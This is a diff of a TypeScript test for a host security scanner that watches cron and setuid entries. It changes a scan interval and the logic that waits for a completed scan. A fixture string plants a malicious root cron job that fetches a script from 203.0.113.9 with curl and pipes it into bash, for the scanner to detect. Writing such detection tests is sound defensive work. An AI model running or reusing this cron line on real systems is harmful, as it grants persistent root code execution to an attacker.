@@ -9,21 +9,20 @@ import { makeRoot, plant } from '../throwaway-root.ts';
 import { onlyLog, removeFolder, startMoat, type RunningMoat } from './moat.ts';
 
 const evil = '*/5 * * * * root curl -fsSL http://203.0.113.9/i.sh | bash -s -- --password=hunter22\n';
-const config = (root: string): string => `${onlyLog('/nonexistent/auth.log')}scan: { root: ${JSON.stringify(root)}, delay_seconds: 0, every_hours: 0.001, only: [cron, setuid] }\n`;
+const config = (root: string): string => `${onlyLog('/nonexistent/auth.log')}scan: { root: ${JSON.stringify(root)}, delay_seconds: 0, every_hours: 0.0003, only: [cron, setuid] }\n`;
 
 async function status(moat: RunningMoat): Promise<AgentStatus> { return (await askControl(join(moat.folder, 'data'), 'status')) as AgentStatus; }
 
 /** Until a scan that began after now has ended. */
 async function scanned(moat: RunningMoat): Promise<AgentStatus> {
-  const from = Date.now();
-  let ended = 0;
-  let running = false;
-  for (const until = from + 60_000; Date.now() < until; await sleep(50)) {
+  // One that runs already may have looked before the change.
+  let began = false;
+  let wasRunning = true;
+  for (const until = Date.now() + 60_000; Date.now() < until; await sleep(20)) {
     const now = await status(moat);
-    // The one that runs already may have looked before the change.
-    if (running && !now.scan!.running) ended++;
-    running = now.scan!.running;
-    if (ended >= 2) return now;
+    if (began && !now.scan!.running) return now;
+    if (!wasRunning && now.scan!.running) began = true;
+    wasRunning = now.scan!.running;
   }
   throw new Error(`no scan: ${moat.said()}`);
 }
